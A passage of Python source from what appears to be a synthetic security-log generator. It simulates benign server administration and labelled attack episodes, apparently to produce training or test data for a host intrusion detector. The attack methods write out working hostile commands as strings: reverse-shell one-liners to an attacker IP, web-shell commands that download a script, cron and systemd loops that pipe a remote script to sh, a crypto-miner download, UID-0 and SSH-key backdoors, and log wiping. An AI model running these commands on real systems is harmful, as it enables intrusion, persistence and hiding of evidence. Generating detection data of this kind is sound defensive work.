        for m in ("http", "http", "http", "gpgv", "gpgv", "gpgv", "store"):
            self.run(c, root, [f"/usr/lib/apt/methods/{m}"], path=f"/usr/lib/apt/methods/{m}", ppid=ag, gap=(0.1, 2))
        self.sudo_close(c, a)
        mine = [p for p in updates if self._pkg_applies(h, p[3])]
        root, _ = self.sudo_open(c, a, ["apt-get", "-y", "upgrade"])
        root.pid = self.run(c, root, ["apt-get", "-y", "upgrade"], gap=(2, 20))
        root.exe = "/usr/bin/apt-get"
        self._dpkg_install(c, root, h, [p for p in mine if p[0] not in ("linux-image", "wazuh-agent")],
                           "/usr/bin/apt-get")
        kernel = any(p[0] == "linux-image" for p in mine)
        if kernel:
            kv = f"5.4.0-{170 + (c.t - self.t0) // (7 * DAY_MS)}-generic"
            kp = (f"linux-image-{kv}", "", tuple(f"/boot/{x}-{kv}" for x in ("vmlinuz", "System.map", "config")),
                  None, True)
            self._dpkg_install(c, root, h, [kp], "/usr/bin/apt-get", new=True)
            self.run(c, root, ["update-initramfs", "-u", "-k", kv], path="/usr/sbin/update-initramfs", gap=(5, 30))
            self.fim(c, h, f"/boot/initrd.img-{kv}", "add", None, size=r.randrange(60_000_000, 90_000_000))
        agent_up = any(p[0] == "wazuh-agent" for p in mine) and not h.is_manager
        if any(p[0] == "wazuh-agent" for p in mine):
            pkg = ("wazuh-manager",) + _WAZUH_AGENT[1:] if h.is_manager else _WAZUH_AGENT
            self._dpkg_install(c, root, h, [pkg], "/usr/bin/apt-get")
        if agent_up:
            self.at(c.t + r.randrange(500, 3000), self._b_ossec, h, "506", "")
            self.at(c.t + r.randrange(5000, 15000), self._b_ossec, h, "503", "")
            c.adv(15, 30)
        self.sudo_close(c, a)
        if h.is_manager and any(p[0] == "wazuh-agent" for p in mine):
            self.sudo(c, a, ["systemctl", "restart", "wazuh-manager"], dur=(5, 20))
            self.at(c.t, self._b_ossec, h, "502", "")
            c.adv(5, 20)
        if kernel:
            self.sudo(c, a, ["reboot"], dur=(0.5, 2))
            if not h.is_manager:
                self.at(c.t + r.randrange(10_000, 40_000), self._b_ossec, h, "506", "")
                self.at(c.t + r.randrange(70_000, 150_000), self._b_ossec, h, "503", "")
            else:
                self.at(c.t + r.randrange(70_000, 150_000), self._b_ossec, h, "502", "")
            c.adv(90, 200)
            return
        self.ssh_logout(c, a)

    def _unattended(self, d: int, day_t: int, r: random.Random) -> None:
        """unattended-upgrades (06:00 + up to an hour) installs a security fix now and then."""
        for h in self.hosts:
            if r.random() >= (0.5 if h.role == "workstation" else 0.3):
                continue
            # workstations are off at 06:00: anacron runs the timer once the developer boots up
            hour = 8.6 if h.role == "workstation" else 6
            c = _Cur(day_t + int(hour * HOUR_MS) + r.randrange(HOUR_MS), r)
            a = self.timer_actor(c, h)
            dl = self.run(c, a, ["/usr/lib/apt/apt.systemd.daily", "install"], path="/usr/lib/apt/apt.systemd.daily")
            uu = self.run(c, a, ["/usr/bin/python3", "/usr/bin/unattended-upgrade"], path="/usr/bin/unattended-upgrade",
                          ppid=dl, gap=(5, 40))
            a.pid = uu
            a.exe = "/usr/bin/python3.8"
            self._dpkg_install(c, a, h, self._security_pkgs(r, h, 1, 2), "/usr/bin/python3.8")

    def _onboarding(self, d: int, day_t: int, r: random.Random) -> None:
        """A new admin joins: accounts created everywhere by ansible, then her first logins and sudo."""
        servers = [h for h in self.hosts if h.role != "workstation"]
        if not servers:
            return
        t = day_t + 10 * HOUR_MS + r.randrange(60 * MIN_MS)
        uid = _ADMIN_UID[NEW_ADMIN]

        def create(hc: _Cur, h: _Host, root: _Actor, py: int) -> None:
            ua = self.run(hc, root, ["useradd", "-m", "-s", "/bin/bash", "-G", "sudo", "-c", "Erin Example", NEW_ADMIN],
                          ppid=py, gap=(0.01, 0.05))
            h.add_user(NEW_ADMIN, uid, uid, f"/home/{NEW_ADMIN}")
            self.syslog(hc.t, h, "5901", "useradd", ua, f"new group: name={NEW_ADMIN}, GID={uid}", {}, None)
            self.syslog(hc.t + 2, h, "5902", "useradd", ua,
                        f"new user: name={NEW_ADMIN}, UID={uid}, GID={uid}, home=/home/{NEW_ADMIN}, shell=/bin/bash, "
                        f"from=none", {}, None)
            who = (0, 0, 0, root.auid, ua, py, "/usr/sbin/useradd", "/usr/bin/python3.8", "/root", "/root")
            for f in ("/etc/group", "/etc/gshadow", "/etc/passwd", "/etc/shadow", "/etc/group-", "/etc/gshadow-",
                      "/etc/passwd-", "/etc/shadow-"):
                self.fim(hc, h, f, "modify", who, new_inode=True)
                hc.t += r.randrange(2, 30)
            for f in (".bashrc", ".profile", ".bash_logout"):
                self.fim(hc, h, f"/home/{NEW_ADMIN}/{f}", "add", who, owner=NEW_ADMIN, key=f"skel|{f}")
            hc.adv(0.3, 2)
            whop = (0, 0, 0, root.auid, py, root.pid, "/usr/bin/python3.8", "/usr/bin/dash", "/root", "/root")
            self.fim(hc, h, f"/home/{NEW_ADMIN}/.ssh/authorized_keys", "add", whop, owner=NEW_ADMIN,
                     perm="rw-------", size=103)

        self._ansible_run(_Cur(t, r), "alice", "users.yml", hook=create)
        for h in self.hosts:
            if h.role != "workstation":
                self.fts_login.discard((NEW_ADMIN, h.name))
        c = _Cur(t + r.randrange(40 * MIN_MS, 90 * MIN_MS), r)
        self._admin_session(c, NEW_ADMIN, src=self.office_ip[NEW_ADMIN], task="check")
        c.adv(600, 3600)
        self._admin_session(c, NEW_ADMIN, src=self.office_ip[NEW_ADMIN], task="root_shell")

    def _oddities(self, d: int, day_t: int, weekend: bool, r: random.Random) -> None:
        """Rare but benign: the things that make a naive detector cry wolf."""
        p = self.periodic
        servers = self._servers()
        webs = self.by_role.get("web") or []
        wss = self.by_role.get("workstation") or []
        if servers and r.random() < 0.25 * p:  # an admin installs a tool
            h = r.choice(servers)
            tool = r.choice(_TOOLS)
            c = _Cur(self.office_t(r, day_t, weekend), r)
            adm = r.choice(ADMINS)
            a = self.ssh_login(c, h, adm, self.vpn_ip[adm] if not self.by_role.get("bastion") else self.by_role["bastion"][0].ip)
            root, _ = self.sudo_open(c, a, ["apt-get", "install", "-y", tool[0]])
            root.pid = self.run(c, root, ["apt-get", "install", "-y", tool[0]], gap=(2, 10))
            root.exe = "/usr/bin/apt-get"
            self._dpkg_install(c, root, h, [tool], "/usr/bin/apt-get", new=True)
            self.sudo_close(c, a)
            self.ssh_logout(c, a)
        if webs and r.random() < 0.15 * p:  # hotfix deployed late in the evening
            self._deploy(_Cur(day_t + 21 * HOUR_MS + r.randrange(150 * MIN_MS), r))
        if servers and r.random() < 0.2 * p:  # on-call at night: restart a service after a page
            adm = r.choice(("dave", "bob"))
            c = _Cur(day_t + HOUR_MS + r.randrange(4 * HOUR_MS), r)
            tgt = r.choice(webs or servers)
            self._admin_session(c, adm, src=self.vpn_ip[adm], targets=[tgt],
                                task=("nginx_reload" if tgt.web == "nginx" else "apache_reload") if tgt.web else "check")
        if self.by_role.get("bastion") and r.random() < 0.05 * p:  # an admin adds a new key of hers
            adm = r.choice(ADMINS)
            b = self.by_role["bastion"][0]
            c = _Cur(self.office_t(r, day_t, weekend), r)
            a = self.ssh_login(c, b, adm, self.office_ip[adm])
            self.edit(c, a, f"/home/{adm}/.ssh/authorized_keys",
                      diff=f"1a2\n> ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{_rand_token(r, 43)} {adm}@laptop-2024\n")
            self.ssh_logout(c, a)
        if wss and r.random() < 0.3 * p and not weekend:  # a developer checks a port with netcat
            h = r.choice(wss)
            c = _Cur(self.office_t(r, day_t), r)
            a = _Actor(h, h.owner, auid=1000, ses=h.next_ses(), tty="pts/2", cwd=f"/home/{h.owner}", pid=h.next_pid(r))
            db = (self.by_role.get("db") or self.hosts)[0]
            self.run(c, a, ["nc", "-zv", db.ip, "5432"], gap=(3, 30))
            self.run(c, a, ["nc", "-zv", "-w", "2", db.ip, "22"], gap=(3, 30))
        if webs and r.random() < 0.1 * p:  # an admin empties a log that grew too big
            h = r.choice(webs)
            adm = r.choice(ADMINS)
            c = _Cur(self.office_t(r, day_t, weekend), r)
            a = self.ssh_login(c, h, adm, (self.by_role.get("bastion") or [h])[0].ip)
            log = "/var/log/nginx/error.log" if h.web == "nginx" else "/var/log/apache2/error.log"
            self.sudo(c, a, ["truncate", "-s", "0", log])
            self.at(c.t + r.randrange(1000, 9000), self._b_ossec, h, "592", log)
            self.ssh_logout(c, a)
        dbs = self.by_role.get("db") or servers
        if dbs and r.random() < 0.05 * p:  # root's crontab edited by an admin
            h = r.choice(dbs)
            adm = r.choice(ADMINS)
            c = _Cur(self.office_t(r, day_t, weekend), r)
            a = self.ssh_login(c, h, adm, (self.by_role.get("bastion") or [h])[0].ip)
            root, _ = self.sudo_open(c, a, ["crontab", "-e"])
            ct = self.run(c, root, ["crontab", "-e"], gap=(20, 120))
            self.fim(c, h, "/var/spool/cron/crontabs/root", "modify",
                     (0, 0, 0, a.auid, ct, root.pid, "/usr/bin/crontab", "/usr/bin/sudo", a.cwd, a.cwd),
                     new_inode=True, diff="3c3\n< 30 1 * * * /usr/local/bin/pg-backup.sh\n---\n> 45 1 * * * /usr/local/bin/pg-backup.sh\n")
            self.syslog(c.t, h, "2833", "crontab", ct, "(root) REPLACE (root)", {}, None, "/var/log/syslog")
            self.sudo_close(c, a)
            self.ssh_logout(c, a)
        if webs and r.random() < 0.05 * p:  # the deploy user edits its own crontab
            h = r.choice(webs)
            c = _Cur(self.office_t(r, day_t, weekend), r)
            a = self.ssh_login(c, h, "deploy", self.vpn_ip["alice"])
            ct = self.run(c, a, ["crontab", "-e"], gap=(20, 120))
            self.fim(c, h, "/var/spool/cron/crontabs/deploy", "modify",
                     (1500, 1500, 1500, 1500, ct, a.pid, "/usr/bin/crontab", "/usr/bin/bash", a.cwd, a.cwd),
                     new_inode=True, diff="2a3\n> 0 3 * * 0 cd /var/www/app/current && php bin/console cache:clear\n")
            self.syslog(c.t, h, "2832", "crontab", ct, "(deploy) REPLACE (deploy)", {}, None, "/var/log/syslog")
            self.ssh_logout(c, a)
        if wss and r.random() < 0.04 * p:  # curl | bash installer on a workstation
            h = r.choice(wss)
            c = _Cur(self.office_t(r, day_t), r)
            a = _Actor(h, h.owner, auid=1000, ses=h.next_ses(), tty="pts/1", cwd=f"/home/{h.owner}", pid=h.next_pid(r))
            self.run(c, a, ["curl", "-fsSL", "https://deb.nodesource.com/setup_18.x"], gap=(0.1, 1))
            root, _ = self.sudo_open(c, a, ["-E", "bash", "-"], command="/usr/bin/bash -")
            bp = self.run(c, root, ["bash", "-"], gap=(0.5, 2))
            for argv in (["apt-get", "update"], ["apt-get", "install", "-y", "gnupg"], ["gpg", "--dearmor"]):
                self.run(c, root, argv, ppid=bp, gap=(1, 10))
            self.fim(c, h, "/etc/apt/sources.list.d/nodesource.list", "add", None, size=56)
            self.sudo_close(c, a)

    # ---------------------------------------------------------------- attack episodes
    def episode_plans(self) -> List[dict]:
        """Plan every attack episode from the configuration alone (no benign state), so
        :func:`episodes` and :func:`generate` agree. Each plan holds its timed events."""
        kinds = self.cfg.resolved_episodes()
        if not kinds or self.attack_window <= 0:
            return []
        first = self.days - self.attack_window
        counts: Dict[str, int] = {}
        plans = []
        saved = self.sink
        self.episode_mode = True
        try:
            for kind in kinds:
                counts[kind] = counts.get(kind, 0) + 1
                name = f"{kind}#{counts[kind]}"
                r = random.Random(f"mimizuku-synth:{self.seed}:episode:{name}")
                day = first + r.randrange(self.attack_window)
                h = self._episode_host(kind, r)
                if kind == "unusual_login_sudo":
                    offset = 2 * HOUR_MS + r.randrange(150 * MIN_MS)
                else:
                    offset = 30 * MIN_MS + r.randrange(21 * HOUR_MS)
                self.sink = []
                # Counters are borrowed, not consumed: the benign plan must not depend on attacks.
                saved_counters = [(x, x.pid, x.ses) for x in self.hosts]
                for x in self.hosts:
                    x.pid = 2000 + (x.pid + (day + 1) * 37_000 + r.randrange(20_000)) % 4_000_000
                    x.ses = x.ses + (day + 1) * 150 + r.randrange(100)
                try:
                    desc = getattr(self, "_ep_" + kind)(_Cur(self.t0 + day * DAY_MS + offset, r), h)
                finally:
                    for x, pid, ses in saved_counters:
                        x.pid, x.ses = pid, ses
                events = sorted((e for e in self.sink if self.t0 <= e[0] < self.t_end), key=lambda e: e[0])
                plans.append({"episode": name, "kind": kind, "host": h, "events": events, "description": desc})
        finally:
            self.episode_mode = False
            self.sink = saved
            self.last_run = (None, 0, 0)
        return plans

    def _episode_host(self, kind: str, r: random.Random) -> _Host:
        prefs = _EPISODE_HOSTS[kind]
        cands = [h for h in self.hosts if h.role in prefs]
        if kind in ("unusual_login_sudo", "ssh_bruteforce_success"):
            exposed = [h for h in cands if h.exposed_ssh]
            cands = exposed or cands
        cands = cands or [h for h in self.hosts if not h.is_manager] or self.hosts
        return r.choice(cands)

    def _attacker_ip(self, r: random.Random) -> str:
        bots = set(self.botnet)
        while True:
            ip = _public_ip(r)
            if ip not in bots:
                return ip

    def _ep_root(self, c: _Cur, h: _Host, ip: str, *, history: bool = True) -> Tuple[_Actor, Callable[[], None]]:
        """How the attacker holds root on ``h``: a stolen admin key and ``sudo -i`` (through the
        bastion when ``h`` is not exposed), or a root shell spawned by an exploited daemon."""
        r = c.r
        if r.random() < 0.65:
            adm = r.choice(ADMINS)
            bastions = self.by_role.get("bastion")
            outer = None
            src = ip
            if not h.exposed_ssh and bastions and bastions[0] is not h:
                outer = self.ssh_login(c, bastions[0], adm, ip)
                self.run(c, outer, ["ssh", h.name], gap=(0.5, 3))
                src = bastions[0].ip
            a = self.ssh_login(c, h, adm, src, history=history)
            root = self.root_shell_open(c, a)

            def close() -> None:
                if history:
                    self.root_shell_close(c, a, root)
                else:
                    self.sudo_close(c, a)
                self.ssh_logout(c, a)
                if outer is not None:
                    self.ssh_logout(c, outer)
            return root, close
        daemon = r.choice(("/usr/sbin/cron", "/usr/lib/snapd/snapd", "/usr/sbin/rsyslogd"))
        root = _Actor(h, "root", tty="(none)", cwd="/", pid=h.next_pid(r), exe=daemon)
        root.pid = self.run(c, root, ["sh", "-i"], gap=(1, 6))
        root.exe = "/usr/bin/dash"
        return root, lambda: None

    def _ep_web_shell(self, c: _Cur, h: _Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        ua = r.choice(_ATTACK_UAS)
        dt = datetime.fromtimestamp(c.t // 1000, timezone.utc)
        self.web_requests(h, [(c.adv(1, 8), ip, "GET", url, 404, r.randrange(150, 560), "-", ua)
                              for url in r.sample(_RECON_PATHS, r.randrange(3, 7))])
        c.adv(20, 120)
        name = f"{r.choice(('cache', 'img', 'thumb', 'upload', 'wp-info', 'config', 'x'))}_{_hexs(r, 6)}.php"
        updir = f"/var/www/app/shared/uploads/{dt.year}/{dt.month:02d}"
        shell = f"{updir}/{name}"
        exe = "/usr/sbin/php-fpm7.4" if h.web != "apache" else "/usr/sbin/apache2"
        master = 800 + _stable_int(h.name + exe, 400)
        worker = master + 1 + r.randrange(60)
        self.fim(c, h, shell, "add", (33, 33, 33, None, worker, master, exe, exe, "/", "/"), owner="www-data",
                 size=r.randrange(300, 4800), key=f"webshell|{name}")
        url = f"/uploads/{dt.year}/{dt.month:02d}/{name}"
        www = _Actor(h, "www-data", cwd=updir, pid=worker, exe=exe, ppid=master)
        cmds = ["whoami", "uname -a", "cat /etc/passwd", "ls -la /var/www/app", "ps aux", "cat /var/www/app/shared/.env",
                "ss -tlnp", "find / -perm -4000 -type f"]
        for cmd in ["id"] + r.sample(cmds, r.randrange(3, 7)):
            c.adv(4, 45)
            self.web_requests(h, [(c.t, ip, "GET", f"{url}?c={_urlquote(cmd, safe='')}", 200, r.randrange(40, 9000),
                                   "-", ua)])
            c.t += r.randrange(20, 200)
            sh = self.run(c, www, ["sh", "-c", cmd], ppid=worker, gap=(0.002, 0.02))
            self.run(c, www, cmd.split(), ppid=sh, gap=(0.05, 0.5))
        if r.random() < 0.75:
            cmd = f"cd /tmp; wget http://{ip}/x.sh; chmod +x x.sh"
            c.adv(10, 60)
            self.web_requests(h, [(c.t, ip, "GET", f"{url}?c={_urlquote(cmd, safe='')}", 200, 0, "-", ua)])
            c.t += r.randrange(20, 200)
            sh = self.run(c, www, ["sh", "-c", cmd], ppid=worker, gap=(0.002, 0.02))
            self.run(c, www, ["wget", f"http://{ip}/x.sh"], cwd="/tmp", ppid=sh, gap=(0.3, 2))
            self.fim(c, h, "/tmp/x.sh", "add", None, owner="www-data", size=r.randrange(200, 3000))
            self.run(c, www, ["chmod", "+x", "x.sh"], cwd="/tmp", ppid=sh, gap=(0.01, 0.1))
            self.fim(c, h, "/tmp/x.sh", "chmod", None, perm="rwxr-xr-x")
        return f"web shell {name} uploaded to {h.name} from {ip}; commands run as www-data through it"

    def _ep_reverse_shell(self, c: _Cur, h: _Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        port = r.choice((4444, 443, 8080, 9001, 1337))
        if h.role == "web":
            exe = "/usr/sbin/php-fpm7.4" if h.web != "apache" else "/usr/sbin/apache2"
            master = 800 + _stable_int(h.name + exe, 400)
            a = _Actor(h, "www-data", cwd="/var/www/app/current/public", pid=master + 1 + r.randrange(60), exe=exe,
                       ppid=master)
            close: Callable[[], None] = lambda: None
        else:
            a, close = self._ep_root(c, h, ip)
        pycode = (f"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
                  f"s.connect((\"{ip}\",{port}));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);"
                  f"os.dup2(s.fileno(),2);import pty; pty.spawn(\"/bin/sh\")")
        variants = {
            "nc": (f"nc -e /bin/sh {ip} {port}", [["nc", "-e", "/bin/sh", ip, str(port)]]),
            "mkfifo": (f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip} {port} >/tmp/f",
                       [["rm", "/tmp/f"], ["mkfifo", "/tmp/f"], ["cat", "/tmp/f"], ["/bin/sh", "-i"],
                        ["nc", ip, str(port)]]),
            "bash": (f"bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'",
                     [["bash", "-c", f"bash -i >& /dev/tcp/{ip}/{port} 0>&1"], ["bash", "-i"]]),
            "python": (f"python3 -c '{pycode}'", [["python3", "-c", pycode], ["/bin/sh"]]),
        }
        order = r.sample(["nc", "mkfifo", "bash", "python"], r.randrange(2, 5))
        last = a.pid
        for v in order:
            line, children = variants[v]
            sh = self.run(c, a, ["sh", "-c", line], gap=(0.002, 0.02))
            for argv in children:
                last = self.run(c, a, argv, ppid=sh, gap=(0.01, 0.2))
            c.adv(5, 50)
        shell = _Actor(h, a.user, auid=a.auid, ses=a.ses, tty="pts/0", cwd=a.cwd, pid=last, ppid=a.pid)
        pty = self.run(c, shell, ["python3", "-c", "import pty;pty.spawn(\"/bin/bash\")"], gap=(0.1, 0.5))
        shell.pid = self.run(c, shell, ["/bin/bash"], ppid=pty, gap=(2, 10))
        for argv in [["id"]] + r.sample(_DISCOVERY_CMDS, r.randrange(3, 7)):
            self.run(c, shell, argv, gap=(3, 30))
        close()
        return f"reverse shells to {ip}:{port} from {h.name} as {a.user} ({', '.join(order)})"

    def _ep_persistence(self, c: _Cur, h: _Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        root, close = self._ep_root(c, h, ip)
        how = r.sample(["cron", "systemd", "rc.local"], r.randrange(2, 4))
        for m in how:
            if m == "cron":
                self.run(c, root, ["crontab", "-l"], gap=(1, 6))
                ct = self.run(c, root, ["crontab", "-"], gap=(0.05, 0.3))
                self.fim(c, h, "/var/spool/cron/crontabs/root", "modify",
                         self.who(root, "/usr/bin/crontab", ct), new_inode=True,
                         diff=f"23a24\n> */10 * * * * curl -fsSL http://{ip}/u.sh | sh\n")
                self.syslog(c.t, h, "2833", "crontab", ct, "(root) REPLACE (root)", {}, None, "/var/log/syslog")
            elif m == "systemd":
                unit = r.choice(_ODD_UNITS)
                self.fim(c, h, f"/etc/systemd/system/{unit}", "add", self.who(root, "/usr/bin/bash", root.pid),
                         size=r.randrange(180, 420))
                c.adv(5, 40)
                self.run(c, root, ["systemctl", "daemon-reload"], gap=(0.5, 3))
                sc = self.run(c, root, ["systemctl", "enable", "--now", unit], gap=(0.05, 0.3))
                self.fim(c, h, f"/etc/systemd/system/multi-user.target.wants/{unit}", "add",
                         self.who(root, "/usr/bin/systemctl", sc), size=len(unit) + 20)
                svc = self.timer_actor(c, h)
                loop = self.run(c, svc, ["/bin/bash", "-c", f"while true; do curl -fsSL http://{ip}/u.sh | sh; "
                                         f"sleep 600; done"], gap=(0.05, 0.3))
                self.run(c, svc, ["curl", "-fsSL", f"http://{ip}/u.sh"], ppid=loop, gap=(0.01, 0.1))
                self.run(c, svc, ["sh"], ppid=loop, gap=(0.2, 2))
                self.run(c, svc, ["sleep", "600"], ppid=loop, gap=(1, 5))
            else:
                self.fim(c, h, "/etc/rc.local", "add", self.who(root, "/usr/bin/bash", root.pid),
                         size=r.randrange(90, 300))
                c.adv(3, 30)
                ch = self.run(c, root, ["chmod", "+x", "/etc/rc.local"], gap=(0.05, 0.2))
                self.fim(c, h, "/etc/rc.local", "chmod", self.who(root, "/usr/bin/chmod", ch), perm="rwxr-xr-x")
            c.adv(10, 120)
        close()
        return f"persistence on {h.name} via {', '.join(how)}; payload from {ip}"

    def _ep_uid0_user(self, c: _Cur, h: _Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        uname = r.choice(("sysadm2", "sysadmin", "support", "backup2", "systemd-sync", "toor"))
        root, close = self._ep_root(c, h, ip)
        ua = self.run(c, root, ["useradd", "-o", "-u", "0", "-g", "0", "-G", "sudo", "-M", "-d", "/root", "-s",
                                "/bin/bash", uname], gap=(0.01, 0.05))
        tty = root.tty if root.tty != "(none)" else "none"
        self.syslog(c.t, h, "5902", "useradd", ua, f"new user: name={uname}, UID=0, GID=0, home=/root, "
                    f"shell=/bin/bash, from=/dev/{tty}" if tty != "none" else
                    f"new user: name={uname}, UID=0, GID=0, home=/root, shell=/bin/bash, from=none", {}, None)
        who = self.who(root, "/usr/sbin/useradd", ua)
        for f in ("/etc/group", "/etc/gshadow", "/etc/passwd", "/etc/shadow", "/etc/group-", "/etc/gshadow-",
                  "/etc/passwd-", "/etc/shadow-"):
            self.fim(c, h, f, "modify", who, new_inode=True)
            c.t += r.randrange(2, 30)
        h.add_user(uname, 0, 0, "/root")
        c.adv(3, 30)
        pw = self.run(c, root, ["passwd", uname], euser="root", gap=(4, 15))
        self.syslog(c.t, h, "5555", "passwd", pw, f"pam_unix(passwd:chauthtok): password changed for {uname}",
                    _DEC_PAM, {"dstuser": uname})
        self.fim(c, h, "/etc/shadow", "modify", self.who(root, "/usr/bin/passwd", pw), new_inode=True)
        c.adv(5, 60)
        close()
        if h.exposed_ssh:
            c.adv(120, 1200)
            a = self.ssh_login(c, h, uname, ip, method="password")
            for argv in (["id"], ["w"], ["cat", "/etc/shadow"]):
                self.run(c, a, argv, gap=(2, 20))
            self.ssh_logout(c, a)
        return f"uid-0 account {uname} created on {h.name}"

    def _ep_ssh_key_backdoor(self, c: _Cur, h: _Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        root, close = self._ep_root(c, h, ip)
        key = (f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{_rand_token(r, 43)} "
               f"{r.choice(('root@kali', 'x@x', 'admin@DESKTOP-' + _rand_token(r, 7).upper()))}")
        self.run(c, root, ["mkdir", "-p", "/root/.ssh"], gap=(2, 10))
        c.adv(5, 25)
        self.fim(c, h, "/root/.ssh/authorized_keys", "modify", self.who(root, "/usr/bin/bash", root.pid),
                 delta=len(key) + 1, diff=f"1a2\n> {key}\n")
        c.adv(3, 15)
        self.run(c, root, ["chmod", "600", "/root/.ssh/authorized_keys"], gap=(2, 15))
        user = "deploy" if "deploy" in h.users else ("svc-backup" if "svc-backup" in h.users else r.choice(ADMINS))
        path = f"{h.home(user)}/.ssh/authorized_keys"
        tee = self.run(c, root, ["tee", "-a", path], gap=(0.2, 2))
        self.fim(c, h, path, "modify", self.who(root, "/usr/bin/tee", tee), delta=len(key) + 1, diff=f"2a3\n> {key}\n")
        self.run(c, root, ["chown", f"{user}:{user}", path], gap=(2, 15))
        if r.random() < 0.6:
            sed = self.run(c, root, ["sed", "-i", "s/^#\\?PermitRootLogin.*/PermitRootLogin prohibit-password/",
                                     "/etc/ssh/sshd_config"], gap=(0.1, 1))
            self.fim(c, h, "/etc/ssh/sshd_config", "modify", self.who(root, "/usr/bin/sed", sed), new_inode=True,
                     diff="34c34\n< PermitRootLogin no\n---\n> PermitRootLogin prohibit-password\n")
            self.run(c, root, ["systemctl", "reload", "ssh"], gap=(1, 10))
        close()
        if h.exposed_ssh:
            c.adv(300, 2400)
            a = self.ssh_login(c, h, "root", ip)
            self.run(c, a, ["id"], gap=(2, 20))
            self.ssh_logout(c, a)
        return f"attacker ssh key added for root and {user} on {h.name}"

    def _ep_miner(self, c: _Cur, h: _Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        close: Callable[[], None] = lambda: None
        if h.role == "web":
            exe = "/usr/sbin/php-fpm7.4" if h.web != "apache" else "/usr/sbin/apache2"
            master = 800 + _stable_int(h.name + exe, 400)
            a = _Actor(h, "www-data", cwd="/tmp", pid=master + 1 + r.randrange(60), exe=exe, ppid=master)
            a.pid = self.run(c, a, ["sh", "-c", f"curl -fsSL http://{ip}:8000/i.sh | sh"], gap=(0.01, 0.1))
            self.run(c, a, ["curl", "-fsSL", f"http://{ip}:8000/i.sh"], gap=(0.2, 1))
            a.pid = self.run(c, a, ["sh"], gap=(0.05, 0.5))
        elif h.role == "ci":
            a = _Actor(h, "gitlab-runner", cwd=f"/home/gitlab-runner/builds/{self.runner_token[h.name]}/0/web/webapp",
                       pid=700 + _stable_int(h.name + ":runner", 300), exe="/usr/bin/gitlab-runner")
            a.pid = self.run(c, a, ["bash", "--login"], gap=(0.05, 0.3))
        else:
            a, close = self._ep_root(c, h, ip)
        d = "/tmp/.X11-unix/.x"
        for argv in (["nproc"], ["cat", "/proc/cpuinfo"], ["pkill", "-f", "kdevtmpfsi"], ["mkdir", "-p", d]):
            self.run(c, a, argv, gap=(0.2, 3))
        cu = self.run(c, a, ["curl", "-fsSL", "-o", f"{d}/xmrig", f"http://{ip}:8000/xmrig"], gap=(2, 12))
        self.fim(c, h, f"{d}/xmrig", "add", self.who(a, "/usr/bin/curl", cu), owner=a.user, size=8_273_616,
                 key="xmrig-6.21.0-linux-static-x64")
        cu = self.run(c, a, ["curl", "-fsSL", "-o", f"{d}/config.json", f"http://{ip}:8000/config.json"], gap=(0.3, 2))
        self.fim(c, h, f"{d}/config.json", "add", self.who(a, "/usr/bin/curl", cu), owner=a.user, size=2_731)
        ch = self.run(c, a, ["chmod", "+x", f"{d}/xmrig"], gap=(0.5, 4))
        self.fim(c, h, f"{d}/xmrig", "chmod", self.who(a, "/usr/bin/chmod", ch), perm="rwxr-xr-x")
        wallet = "4" + _rand_token(r, 94, "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz")
        args = ["-o", "stratum+tcp://pool.supportxmr.com:3333", "-u", wallet, "-p", h.name, "--donate-level=1", "-B"]
        nh = self.run(c, a, ["nohup", "./xmrig"] + args, cwd=d, gap=(0.01, 0.05))
        self.run(c, a, ["./xmrig"] + args, path=f"{d}/xmrig", cwd=d, ppid=nh, gap=(2, 20))
        close()
        return f"XMRig miner dropped in {d} on {h.name} as {a.user}, pool via {ip}"

    def _ep_log_wiping(self, c: _Cur, h: _Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        root, close = self._ep_root(c, h, ip, history=False)
        self.run(c, root, ["shred", "-u", "-z", "-n", "3", "/var/log/auth.log"], gap=(1, 5))
        self.run(c, root, ["truncate", "-s", "0", "/var/log/syslog"], gap=(0.3, 2))
        self.at(c.t + r.randrange(800, 6000), self._b_ossec, h, "592", "/var/log/syslog")
        c.adv(2, 10)  # ': > /var/log/audit/audit.log' is a shell builtin: only logcollector notices
        self.at(c.t + r.randrange(800, 6000), self._b_ossec, h, "592", "/var/log/audit/audit.log")
        c.adv(2, 10)
        self.run(c, root, ["rm", "-f", "/var/log/wtmp", "/var/log/btmp", "/var/log/lastlog"], gap=(1, 6))
        self.run(c, root, ["journalctl", "--rotate"], gap=(0.5, 3))
        self.run(c, root, ["journalctl", "--vacuum-time=1s"], gap=(1, 5))
        ln = self.run(c, root, ["ln", "-sf", "/dev/null", "/root/.bash_history"], gap=(0.5, 4))
        self.fim(c, h, "/root/.bash_history", "delete", self.who(root, "/usr/bin/ln", ln))
        close()
        return f"logs wiped on {h.name}: auth.log shredded, syslog and audit.log truncated, history unlinked"

    def _ep_suid_shell(self, c: _Cur, h: _Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        root, close = self._ep_root(c, h, ip)
        cp = self.run(c, root, ["cp", "/bin/bash", "/usr/local/bin/.sh"], gap=(0.3, 3))
        self.fim(c, h, "/usr/local/bin/.sh", "add", self.who(root, "/usr/bin/cp", cp), key="dist|/usr/bin/bash",
                 size=18_000 + _stable_int("/usr/bin/bash", 2_500_000), perm="rwxr-xr-x")
        ch = self.run(c, root, ["chmod", "u+s", "/usr/local/bin/.sh"], gap=(1, 8))
        self.fim(c, h, "/usr/local/bin/.sh", "chmod", self.who(root, "/usr/bin/chmod", ch), perm="rwsr-xr-x")
        close()
        c.adv(120, 1500)
        if h.role == "web":
            exe = "/usr/sbin/php-fpm7.4" if h.web != "apache" else "/usr/sbin/apache2"
            master = 800 + _stable_int(h.name + exe, 400)
            u = _Actor(h, "www-data", cwd="/var/www/app/current/public", pid=master + 1 + r.randrange(60), exe=exe,
                       ppid=master)
        else:
